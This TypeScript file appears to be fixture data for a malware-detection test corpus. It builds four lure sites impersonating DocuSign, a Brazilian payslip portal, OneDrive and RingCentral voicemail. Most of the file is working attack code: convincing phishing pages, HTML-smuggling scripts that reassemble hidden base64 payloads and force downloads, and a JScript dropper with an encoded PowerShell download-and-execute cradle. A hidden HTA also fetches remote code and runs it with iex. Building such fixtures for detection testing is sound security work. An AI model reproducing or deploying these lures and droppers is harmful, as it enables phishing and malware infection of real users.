import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cfb, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, zip } from '../parts/e-bin.js';

// ---------- DocuSign-look review page delivering an ISO (LNK + DLL) ----------
const dsHost = 'docusign.review-envelope-secure.com';
const dsPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>DocuSign – Please review and sign: Q4_Bonus_Allocation_2025.pdf</title>
<style>
body{margin:0;background:#f4f4f4;font-family:"Helvetica Neue",Arial,sans-serif;color:#1e1e1e}
.bar{background:#fff;border-bottom:1px solid #ddd;padding:12px 24px;display:flex;align-items:center}.bar b{font-size:22px}.bar b i{color:#ffcc22;font-style:normal}
.env{max-width:640px;margin:30px auto;background:#fff;border:1px solid #e0e0e0}
.env .hd{background:#1e3a8a;background:linear-gradient(90deg,#4c00ff,#26004d);color:#fff;padding:26px 30px;text-align:center}
.env .hd .ico{font-size:40px}
.env .bd{padding:24px 30px;font-size:15px;line-height:1.55}
.btn{display:inline-block;background:#ffcc22;color:#1e1e1e;font-weight:700;padding:13px 28px;border-radius:3px;text-decoration:none;border:0;font-size:15px;cursor:pointer}
.meta{font-size:13px;color:#666;border-top:1px solid #eee;padding-top:12px;margin-top:18px}
.ft{font-size:11px;color:#888;max-width:640px;margin:10px auto}
.load{display:none;margin-top:14px;font-size:13px;color:#555}
</style>
</head>
<body>
<div class="bar"><b>Docu<i>Sign</i></b></div>
<div class="env">
 <div class="hd"><div class="ico">&#128196;</div><div>Human Resources sent you a document to review and sign.</div></div>
 <div class="bd">
  <p><b>Q4_Bonus_Allocation_2025.pdf</b></p>
  <p>Please review the attached bonus allocation and salary adjustment for the upcoming quarter and sign before <b id="dd"></b>. The document contains confidential compensation information and is provided in a secure container.</p>
  <button class="btn" id="rv">REVIEW DOCUMENT</button>
  <div class="load" id="ld">Preparing secure document&hellip; The file will open in Windows Explorer. Double-click <b>Q4_Bonus_Allocation_2025</b> to view.</div>
  <div class="meta">Envelope ID: 8F2A1C7E-44B0-4E61-9C2D-71A0B5E3F912<br>Sender: hr-payroll@ (via DocuSign)</div>
 </div>
</div>
<div class="ft">Do Not Share This Email: this message contains a secure link to DocuSign. Please do not share this code with others. About DocuSign: Sign documents electronically in just minutes.</div>
<script src="/envelope/r.js"></script>
</body>
</html>`;
const dsJs = `(function(){document.getElementById('dd').textContent=new Date(Date.now()+2*864e5).toDateString();
var ua=navigator.userAgent;document.getElementById('rv').onclick=function(){document.getElementById('ld').style.display='block';
fetch('/envelope/ev',{method:'POST',body:JSON.stringify({e:'review',ua:ua,tz:Intl.DateTimeFormat().resolvedOptions().timeZone})});
setTimeout(function(){location.href='/envelope/8F2A1C7E/Q4_Bonus_Allocation_2025.iso'},1200)}})();`;
const dsIso = iso('Q4_BONUS', ['Q4_BONUS_ALLOCATION_2025.LNK', 'VERSION.DLL', 'ONEDRIVEUPDATER.EXE']);
lnk('C:\\Windows\\System32\\rundll32.exe', 'version.dll,DllRegisterServer', 'C:\\Windows\\System32\\imageres.dll').copy(dsIso, 0x9800);
pe({ dll: true, strings: ['version.dll', 'Brute Ratel C4', 'badger'] }).copy(dsIso, 0xa000, 0, 0x800);

// ---------- Brazilian payslip lure: encrypted ZIP with an MSI, password printed ----------
const hoHost = 'rh-contracheque.portal-colaborador.com.br';
const hoPage = `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Portal do Colaborador – Holerite Outubro/2025</title>
<style>
body{margin:0;font-family:"Segoe UI",Roboto,Arial,sans-serif;background:#eef3f7;color:#1c2b3a}
header{background:#00529b;color:#fff;padding:14px 26px;display:flex;align-items:center;gap:12px}header b{font-size:18px}
.c{max-width:560px;margin:40px auto;background:#fff;border-radius:8px;padding:26px 30px;box-shadow:0 2px 10px rgba(0,0,0,.07)}
.arq{display:flex;align-items:center;gap:12px;border:1px solid #d9e2ea;border-radius:6px;padding:12px;margin:16px 0}.arq i{width:38px;height:46px;background:#f2a900;border-radius:3px;display:block}
.sen{background:#fff8e1;border:1px solid #f2a900;border-radius:6px;padding:12px;text-align:center;font-size:15px}.sen b{font-family:monospace;font-size:22px;letter-spacing:2px}
a.b{display:block;text-align:center;margin-top:16px;background:#00529b;color:#fff;padding:13px;border-radius:6px;text-decoration:none;font-weight:600}
small{color:#6b7c8c}
</style>
</head>
<body>
<header><b>Portal do Colaborador</b><span style="margin-left:auto;font-size:13px">Departamento Pessoal</span></header>
<div class="c">
 <h2 style="margin-top:0">Seu holerite está disponível</h2>
 <p>Olá! O demonstrativo de pagamento referente a <b>Outubro/2025</b>, incluindo o adiantamento do 13º salário, já está disponível para consulta.</p>
 <div class="arq"><i></i><div><b>Holerite_Outubro_2025.zip</b><br><small>Arquivo protegido por senha (LGPD)</small></div></div>
 <div class="sen">Senha para abrir o arquivo: <b>8842</b></div>
 <a class="b" href="/arquivos/Holerite_Outubro_2025.zip">Baixar holerite</a>
 <p><small>Por segurança e em conformidade com a LGPD, o arquivo é compactado e protegido por senha. Após extrair, execute o visualizador <b>Holerite_Outubro_2025.msi</b> para abrir o documento.</small></p>
</div>
</body>
</html>`;
const hoMsi = cfb(['Holerite Viewer', 'CustomAction', 'Grandoreiro', 'cmd.exe /c start /min "" "%APPDATA%\\\\Adobe\\\\AcroRd32.exe"', 'Banco do Brasil', 'Itau', 'Bradesco']);

// ---------- Italian OneDrive-style share: HTML smuggling of a ZIP (Blob, chunked base64) ----------
const odHost = 'onedrive-condivisione.sharepoint-files-it.com';
const odZip = zip([{ name: 'Documento_Condiviso_2025-11.js', data: `var s=new ActiveXObject("WScript.Shell");s.Run("powershell -nop -w 1 -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AZgBpAGwAZQBzAC0AYQBwAGkALgBuAGUAdAAvAGwAJwApAA==",0);` }]);
const odB64 = odZip.toString('base64');
const odChunks: string[] = [];
for (let i = 0; i < odB64.length; i += 64) odChunks.push(odB64.slice(i, i + 64).split('').reverse().join(''));
const odPage = `<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>OneDrive – Documento_Condiviso_2025-11</title>
<style>
body{margin:0;font-family:"Segoe UI",Tahoma,sans-serif;background:#faf9f8;color:#323130}
.top{background:#0078d4;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:12px}.top .w{font-size:16px;font-weight:600}
.m{max-width:520px;margin:60px auto;background:#fff;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13),0 .3px .9px rgba(0,0,0,.11);padding:28px;text-align:center}
.fi{width:64px;height:64px;margin:0 auto 12px;background:#185abd;border-radius:4px;color:#fff;font-size:30px;display:flex;align-items:center;justify-content:center}
.p{height:4px;background:#edebe9;margin:16px 0;overflow:hidden}.p i{display:block;height:100%;width:30%;background:#0078d4;animation:m 1.2s infinite linear}@keyframes m{from{margin-left:-30%}to{margin-left:100%}}
small{color:#605e5c}
</style>
</head>
<body>
<div class="top"><span style="font-size:20px">&#9783;</span><span class="w">OneDrive</span></div>
<div class="m">
 <div class="fi">W</div>
 <h2 style="font-weight:600;font-size:20px">Marco Bianchi ha condiviso un file con te</h2>
 <p>Documento_Condiviso_2025-11.docx</p>
 <div class="p"><i></i></div>
 <p id="st">Download del file in corso…</p>
 <small>Se il download non si avvia, <a href="#" id="again">fai clic qui</a>. Apri il file scaricato per visualizzare il documento.</small>
</div>
<script>
var _p=${JSON.stringify(odChunks)};
function _r(){var s='';for(var i=0;i<_p.length;i++)s+=_p[i].split('').reverse().join('');return s}
function _g(){var b=atob(_r()),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var bl=new Blob([u],{type:'application/octet-stream'}),n='Documento_Condiviso_2025-11.zip';
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(bl,n)}else{var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download=n;document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href)},4000)}
document.getElementById('st').textContent='Download completato. Apri Documento_Condiviso_2025-11.zip'}
document.getElementById('again').onclick=function(e){e.preventDefault();_g()};
setTimeout(_g,1500);
</script>
</body>
</html>`;

// ---------- Voicemail lure: HTA built in script and saved through a data: URL ----------
const vmHost = 'voicemail.ringcentral-inbox.net';
const hta = `<html><head><title>Voice Message Player</title><HTA:APPLICATION ID="vm" APPLICATIONNAME="VoiceMessage" BORDER="none" SHOWINTASKBAR="no" WINDOWSTATE="minimize"/>
<script language="VBScript">
Sub Window_OnLoad
 Set o = CreateObject("WScript.Shell")
 o.Run "powershell -w hidden -c ""$c=(New-Object Net.WebClient).DownloadString('https://vm-relay.audio-cdn-host.com/p');iex $c""", 0, False
 window.close
End Sub
</script></head><body></body></html>`;
const vmPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>New Voice Message – 00:47 – from +1 (312) 555-0186</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f6f8;color:#222}
.h{background:#0684bc;color:#fff;padding:14px 22px;font-weight:700;font-size:18px}
.c{max-width:500px;margin:50px auto;background:#fff;border-radius:10px;box-shadow:0 2px 14px rgba(0,0,0,.08);padding:26px}
.pl{display:flex;align-items:center;gap:12px;background:#f0f4f8;border-radius:30px;padding:10px 16px;margin:16px 0}
.pl button{width:40px;height:40px;border-radius:50%;border:0;background:#ff7a00;color:#fff;font-size:16px}
.wave{flex:1;height:26px;background:repeating-linear-gradient(90deg,#9bb3c9 0 3px,transparent 3px 6px);mask:linear-gradient(#000,#000)}
small{color:#777}
</style>
</head>
<body>
<div class="h">RingCentral &middot; Voicemail</div>
<div class="c">
 <b>You have a new voice message</b>
 <p style="font-size:14px;color:#555">From: +1 (312) 555-0186 &middot; Duration 00:47 &middot; Received <span id="t"></span></p>
 <div class="pl"><button id="pb">&#9654;</button><div class="wave"></div><span>0:47</span></div>
 <small>Your browser cannot play this encrypted message. Click play to download the secure player, then open <b>VoiceMessage_0047.hta</b>.</small>
</div>
<script>
(function(){document.getElementById('t').textContent=new Date().toLocaleString();
var parts=${JSON.stringify(Buffer.from(hta, 'utf8').toString('base64').match(/.{1,40}/g))};
function go(){var d='data:application/hta;base64,'+parts.join('');var a=document.createElement('a');a.setAttribute('href',d);a.setAttribute('download','VoiceMessage_0047.hta');a.style.display='none';document.body.appendChild(a);a.click();a.remove()}
document.getElementById('pb').onclick=go;setTimeout(go,2500);})();
</script>
</body>
</html>`;

export const entries: Entry[] = [
  {
    id: 'e-mal-docusign-iso',
    label: 'malware',
    kind: 'document-lure',
    url: `https://${dsHost}/envelope/8F2A1C7E?a=review&u=hr`,
    routes: {
      [`${dsHost}/envelope/8F2A1C7E`]: htmlRoute(dsPage),
      [`${dsHost}/envelope/r.js`]: jsRoute(dsJs),
      [`${dsHost}/envelope/ev`]: jsonRoute({ ok: 1 }),
      [`${dsHost}/envelope/8F2A1C7E/Q4_Bonus_Allocation_2025.iso`]: fileRoute(dsIso, 'application/x-iso9660-image', 'Q4_Bonus_Allocation_2025.iso'),
    },
  },
  {
    id: 'e-mal-holerite-senha-pt',
    label: 'malware',
    kind: 'password-archive-lure',
    url: 'https://encurtador.app.br/hol-out25',
    routes: {
      'encurtador.app.br/hol-out25': redirectRoute(301, `https://${hoHost}/colaborador/holerite?comp=2025-10`),
      [`${hoHost}/colaborador/holerite`]: htmlRoute(hoPage),
      [`${hoHost}/arquivos/Holerite_Outubro_2025.zip`]: fileRoute(zip([{ name: 'Holerite_Outubro_2025.msi', data: hoMsi }], { encrypted: true }), 'application/zip', 'Holerite_Outubro_2025.zip'),
    },
  },
  {
    id: 'e-mal-smuggling-onedrive-it',
    label: 'malware',
    kind: 'html-smuggling',
    url: `https://${odHost}/:w:/g/personal/marco_bianchi/EbX7q2?e=Kd81Pq`,
    routes: { [`${odHost}/:w:/g/personal/marco_bianchi/EbX7q2`]: htmlRoute(odPage) },
  },
  {
    id: 'e-mal-smuggling-dataurl-hta',
    label: 'malware',
    kind: 'html-smuggling',
    url: `https://${vmHost}/vm/listen/0047-3125550186`,
    body: vmPage,
  },
];
